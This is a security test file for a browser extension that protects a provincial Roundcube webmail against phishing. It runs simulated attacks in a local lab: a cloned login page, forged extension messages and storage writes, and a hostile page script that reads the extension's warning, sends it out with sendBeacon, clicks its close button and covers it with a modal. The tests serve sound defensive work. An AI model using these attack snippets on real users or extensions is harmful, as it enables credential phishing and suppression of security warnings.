/**
 * The security review's findings (issue #17), each tried the way an attacker would, on the real
 * Roundcube and Chromium: a cloned login on another host of the province, and messages forged
 * from our own content-script world (what a renderer a page has compromised can send in our
 * name, run here through DevTools, see tests/lab/content-world.ts).
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page, Worker } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXTENSION_ID } from '../../wxt.config';
import { launchBrowser, type TestBrowser } from '../lab/browser';
import { inContentScript } from '../lab/content-world';
import { guardStored, setUserOptions } from '../lab/extension';
import { loginToRoundcube } from '../lab/roundcube-page';
import { startSmtpSink, type SmtpSink } from '../lab/smtp-sink';
import { startLab, waitFor, type WebmailLab } from '../lab/webmail-lab';

const webmailHost = 'mail.laichau.gov.vn';
/** Another host of the province (a compromised portal, say): not the webmail the policy names. */
const cloneHost = 'xyz.laichau.gov.vn';
const foreignHost = 'dang-nhap-laichau.com';
const helpDesk = 'hotro@laichau.gov.vn';
const attacker = 'thu-thap@dang-nhap-laichau.com';

type Chrome = typeof import('wxt/browser').browser;

interface Status {
  keysChecked: number;
  matches: number;
  pending: number;
  committed: number;
  rolesGiven: number;
  roles: { host: string; role: string; keys?: boolean }[];
}

/** A report as the webmail's content script begins one, addressed as the caller likes. */
function forgedReport(to: string[]): string {
  const pending = {
    kind: 'message',
    account: `${webmailHost}/canbo`,
    key: 'mid:forged@example',
    ref: { id: '1', folder: 'INBOX' },
    to,
    body: 'Danh sách tài khoản',
    mode: 'send-after-confirm',
    original: 'keep',
    locale: 'vi',
    hotlines: [],
  };
  return `chrome.runtime.sendMessage(${JSON.stringify({ type: 'khienthu:report-begin', pending })})`;
}

/**
 * A phishing page that fights the warning: it looks for our warning in its DOM every few
 * milliseconds, sends home whatever it can read of it, clicks its close (or "stay") button, and
 * keeps a modal dialog of its own in the top layer, over everything. `lookalike`: it also names
 * the webmail and the province beside its password field.
 */
function hostilePage(lookalike: boolean): string {
  return `<!doctype html><meta charset="utf-8"><title>${lookalike ? 'Roundcube Webmail :: Đăng nhập' : 'Hội nghị trực tuyến'}</title>
    <form>${lookalike ? '<h1>Hộp thư công vụ tỉnh Lai Châu</h1>' : ''}<input id="user"><input id="pw" type="password"></form>
    <dialog id="cover">Phiên làm việc đã hết hạn, vui lòng đăng nhập lại.</dialog>
    <script>
      setInterval(() => {
        for (const host of document.querySelectorAll('*')) {
          const root = host.shadowRoot;
          if (!root) continue;
          if (root.textContent.trim()) navigator.sendBeacon('/leak', root.textContent);
          root.querySelector('[data-khienthu-action="close"], [data-khienthu-action="stay"]')?.click();
        }
        const cover = document.getElementById('cover');
        if (!cover.open) cover.showModal();
      }, 20);
    </script>`;
}

const reportState = `chrome.runtime.sendMessage({ type: 'khienthu:report-state' })`;

describe('security', () => {
  let lab: WebmailLab | undefined;
  let smtp: SmtpSink | undefined;
  let server: Server | undefined;
  let browser: TestBrowser | undefined;
  let worker: Worker;
  let options: Page;
  let port: number;
  let webmail: string;
  /** Roundcube's own login page, as a phisher copies it (its form posts back to the copy). */
  let clonedLogin = '';
  const leaks: string[] = [];

  const status = (): Promise<Status> =>
    options.evaluate(() => (globalThis as unknown as { chrome: Chrome }).chrome.runtime.sendMessage({ type: 'khienthu:password-guard:status' }));
  const storedFingerprint = (): Promise<unknown> => guardStored(worker, 'passwordGuardFingerprint');
  const at = (host: string, path: string) => `http://${host}:${port}${path}`;
  /** Opens a page and waits until the guard has given it a role. */
  async function openGuarded(url: string, host: string, page?: Page): Promise<{ page: Page; role: string }> {
    const before = (await status()).rolesGiven;
    const tab = page ?? (await browser!.context.newPage());
    await tab.goto(url);
    let role = '';
    await waitFor(async () => {
      const now = await status();
      role = now.roles.slice(Math.max(0, now.roles.length - (now.rolesGiven - before))).find((r) => r.host === host)?.role ?? '';
      return role !== '';
    }, 10_000);
    return { page: tab, role };
  }

  beforeAll(async () => {
    try {
      smtp = await startSmtpSink();
      lab = await startLab({ domain: 'laichau.gov.vn', smtpHost: `127.0.0.1:${smtp.port}` });
      clonedLogin = await (await fetch(`${lab.localUrl}/`)).text();
      server = createServer((request, response) => {
        const host = (request.headers.host ?? '').split(':')[0];
        const path = new URL(request.url ?? '/', 'http://x').pathname;
        let body: string | undefined;
        if (host === cloneHost) {
          // the copy takes the password and answers with a mailbox-looking page (no password field)
          body = request.method === 'POST' ? '<!doctype html><meta charset="utf-8"><title>Hộp thư đến</title><div id="messagelist"></div>' : clonedLogin;
        } else if (path === '/leak') {
          // what a hostile page managed to read of the warning
          const chunks: Buffer[] = [];
          request.on('data', (chunk: Buffer) => chunks.push(chunk));
          request.on('end', () => leaks.push(Buffer.concat(chunks).toString('utf8')));
          body = 'ok';
        } else if (path === '/hostile' || path === '/hostile-lookalike') {
          body = hostilePage(path === '/hostile-lookalike');
        } else if (path === '/data-frame') {
          // the lure's form in a data: frame, which has no origin of its own
          const form = encodeURIComponent('<!doctype html><meta charset="utf-8"><form><input id="pw" type="password"></form>');
          body = `<!doctype html><meta charset="utf-8"><title>Văn bản</title><iframe id="f" src="data:text/html;charset=utf-8,${form}"></iframe>`;
        } else if (path === '/plain') {
          body = '<!doctype html><meta charset="utf-8"><title>Hội thảo</title><form><input id="pw" type="password"></form>';
        }
        request.resume();
        request.on('end', () => response.writeHead(body ? 200 : 404, { 'content-type': 'text/html; charset=utf-8' }).end(body ?? ''));
      });
      await new Promise<void>((resolve) => server!.listen(0, '127.0.0.1', resolve));
      port = (server.address() as AddressInfo).port;
      webmail = `http://${webmailHost}:${lab.port}`;
      browser = await launchBrowser({ hosts: [webmailHost, cloneHost, foreignHost] });
      worker = browser.serviceWorker!;
      await setUserOptions(worker, { passwordGuardEnabled: true });
      options = await browser.context.newPage();
      await options.goto(`chrome-extension://${EXTENSION_ID}/options.html`);
      await options.locator('body[data-khienthu-ready]').waitFor();
    } catch (error) {
      await browser?.close();
      server?.close();
      await lab?.stop();
      await smtp?.stop();
      throw error;
    }
  });

  afterAll(async () => {
    await browser?.close();
    await new Promise((resolve) => (server ? server.close(resolve) : resolve(undefined)));
    await lab?.stop();
    await smtp?.stop();
  });

  it('watches a cloned Roundcube login on another host of the province, and never takes the fingerprint there', async () => {
    expect(await storedFingerprint()).toBeUndefined();
    const { page, role } = await openGuarded(at(cloneHost, '/'), cloneHost);
    // the Lai Châu policy names mail.laichau.gov.vn: any other host, *.gov.vn or not, is foreign
    expect(role).toBe('watch');
    await page.locator('#rcmloginuser').fill(lab!.user);
    await page.locator('#rcmloginpwd').fill(lab!.password);
    const next = (await status()).rolesGiven;
    await page.locator('#rcmloginsubmit').click();
    // the copy's "mailbox" has loaded and been given its role: nothing was pending or committed
    await waitFor(async () => (await status()).rolesGiven > next, 10_000);
    expect(await storedFingerprint()).toBeUndefined();
    expect(await status()).toMatchObject({ pending: 0, committed: 0 });
    await page.close();

    // the real webmail still takes it
    const mail = await browser!.context.newPage();
    await loginToRoundcube(mail, webmail, lab!);
    await waitFor(async () => (await storedFingerprint()) !== undefined, 10_000);
    expect(await storedFingerprint()).toMatchObject({ host: webmailHost });
    await mail.close();
  });

  it('refuses a report begun from a foreign page, and the compose it then opens sends nothing', async () => {
    const { page } = await openGuarded(at(foreignHost, '/plain'), foreignHost);
    expect(await inContentScript<boolean>(page, forgedReport([attacker]))).toBe(false);
    expect(await inContentScript<boolean>(page, forgedReport([helpDesk]))).toBe(false);
    // the same tab, sent to the webmail's compose with the attacker's address filled in
    await openGuarded(`${webmail}/?_task=mail&_action=compose&_to=${encodeURIComponent(attacker)}`, webmailHost, page);
    await page.locator('#compose-subject, input[name="_subject"]').first().waitFor();
    expect(await inContentScript<unknown>(page, reportState)).toEqual({ reported: false });
    expect(smtp!.received.filter((mail) => mail.to.includes(attacker))).toEqual([]);
    await page.close();
  });

  it('refuses a report from the webmail to anyone but its help desk, and takes the mode from the policy', async () => {
    const { page } = await openGuarded(`${webmail}/?_task=mail`, webmailHost);
    expect(await inContentScript<boolean>(page, forgedReport([attacker]))).toBe(false);
    expect(await inContentScript<boolean>(page, forgedReport([helpDesk, attacker]))).toBe(false);
    expect(await inContentScript<unknown>(page, reportState)).toEqual({ reported: false });
    expect(await inContentScript<boolean>(page, forgedReport([helpDesk.toUpperCase()]))).toBe(true);
    // the Lai Châu policy composes (the user presses Send); the original stays where it is
    expect(await inContentScript<unknown>(page, reportState)).toMatchObject({
      pending: { host: webmailHost, to: [helpDesk], mode: 'compose', original: 'keep', hotlines: ['02133.798.788', '0972 862 268'] },
    });
    await inContentScript(page, `chrome.runtime.sendMessage({ type: 'khienthu:report-finish' })`);
    await page.close();
  });

  /** Until the tab shows our warning page, or the hostile page has sent something home. */
  async function warningOrLeak(page: Page): Promise<void> {
    await waitFor(() => page.url().startsWith(`chrome-extension://${EXTENSION_ID}/warning.html`) || leaks.length > 0, 10_000);
  }

  it('shows the password warning where the page can neither close, cover nor read it', async () => {
    const { page } = await openGuarded(at(foreignHost, '/hostile'), foreignHost);
    await page.locator('#pw').click({ force: true });
    await page.keyboard.type(lab!.password);
    await warningOrLeak(page);
    expect(leaks).toEqual([]);
    // the extension's own page, in that tab: the hostile page is gone, its dialog with it
    const dialog = page.locator('[role="alertdialog"][data-khienthu-warning="password"]');
    await dialog.waitFor();
    expect(await dialog.innerText()).toContain(foreignHost);
    expect(await page.locator('dialog').count()).toBe(0);
    // what the user sees at the warning's centre is the warning itself
    const hit = await page.evaluate(() => document.elementFromPoint(innerWidth / 2, 120)?.closest('[role="alertdialog"]') !== null);
    expect(hit).toBe(true);
    // going back is the user's choice, by the warning's button
    await dialog.locator('[data-khienthu-action="close"]').click();
    await page.waitForURL(at(foreignHost, '/hostile'));
    await page.close();
  });

  it('puts nothing of the policy into an imitation login page, and warns on the extension page instead', async () => {
    const { page } = await openGuarded(at(foreignHost, '/hostile-lookalike'), foreignHost);
    await warningOrLeak(page);
    expect(leaks).toEqual([]);
    const dialog = page.locator('[role="alertdialog"][data-khienthu-warning="lookalike"]');
    await dialog.waitFor();
    // the hotlines are said here, on our page, where no site reads them
    expect(await dialog.innerText()).toContain('02133.798.788');
    await page.close();
  });

  it('does not let a page open the warning page, nor read a warning or raise an alert in our name', async () => {
    const { page } = await openGuarded(at(foreignHost, '/plain'), foreignHost);
    // not web-accessible: a site cannot frame or open it to fake or probe it
    const fetched = await page.evaluate(
      (url) => fetch(url).then((response) => (response.ok ? 'fetched' : 'refused'), () => 'refused'),
      `chrome-extension://${EXTENSION_ID}/warning.html`,
    );
    expect(fetched).toBe('refused');
    const ask = (type: string) => inContentScript<unknown>(page, `chrome.runtime.sendMessage({ type: '${type}' }).then((answer) => answer ?? 'nothing')`);
    expect(await ask('khienthu:password-guard:warning')).toBe('nothing');
    expect(await ask('khienthu:password-guard:proceed')).toBe(false);
    expect(await ask('khienthu:password-alert')).toBe('nothing');
    await page.close();
  });

  it('keeps the fingerprint where no content script can read it, behind a slow hash', async () => {
    const fp = (await storedFingerprint()) as { salt: string; hash: string };
    expect(fp).toMatchObject({ version: 2, kdf: 'PBKDF2-SHA-256', iterations: 600_000, bits: 32 });
    for (const [url, host] of [
      [at(foreignHost, '/plain'), foreignHost],
      [`${webmail}/?_task=mail`, webmailHost],
    ] as const) {
      const { page } = await openGuarded(url, host);
      // everything our content-script world can reach: the extension's storage, and the IndexedDB it sees
      const reachable = await inContentScript<string>(
        page,
        `Promise.all([chrome.storage.local.get(null), chrome.storage.sync.get(null), indexedDB.databases()]).then((all) => JSON.stringify(all))`,
      );
      expect(reachable).not.toContain('passwordGuardFingerprint');
      expect(reachable).not.toContain('passwordGuardAlerts');
      expect(reachable).not.toContain('khienthu-password-guard');
      expect(reachable).not.toContain(fp.salt);
      expect(reachable).not.toContain(fp.hash);
      await page.close();
    }
  });

  it('lets no content script rewrite the options that steer the report and the guard', async () => {
    const { page } = await openGuarded(at(foreignHost, '/plain'), foreignHost);
    // what the options page once kept in storage.sync, written from our content-script world
    const forged = { passwordGuardEnabled: false, passwordGuardAllowlist: [foreignHost], reportAddresses: [attacker], warningTextVi: 'Thư này an toàn.' };
    await inContentScript(page, `chrome.storage.sync.set({ userOptions: ${JSON.stringify(forged)} }).then(() => chrome.storage.local.set({ userOptions: ${JSON.stringify(forged)} }))`);
    await page.close();
    // the guard still watches that host, and the webmail's report still goes to the help desk only
    const again = await openGuarded(at(foreignHost, '/plain'), foreignHost);
    expect(again.role).toBe('watch');
    await again.page.close();
    const mail = await openGuarded(`${webmail}/?_task=mail`, webmailHost);
    expect(await inContentScript<boolean>(mail.page, forgedReport([attacker]))).toBe(false);
    await mail.page.close();
  });

  it('watches a password typed in a data: frame, which has no origin of its own', async () => {
    const { page } = await openGuarded(at(foreignHost, '/data-frame'), foreignHost);
    const field = page.frameLocator('#f').locator('#pw');
    await field.waitFor();
    // the guard has run in the data: frame too (it has no host: the role is given to '')
    await waitFor(async () => (await status()).roles.some((r) => r.host === '' && r.role === 'watch'), 10_000);
    await field.click();
    await page.keyboard.type(lab!.password);
    await page.waitForURL(`chrome-extension://${EXTENSION_ID}/warning.html`, { timeout: 10_000 });
    const dialog = page.locator('[role="alertdialog"][data-khienthu-warning="password"]');
    // the page the user sees is named, though the frame has no host
    expect(await dialog.innerText()).toContain(foreignHost);
    await page.close();
  });
});
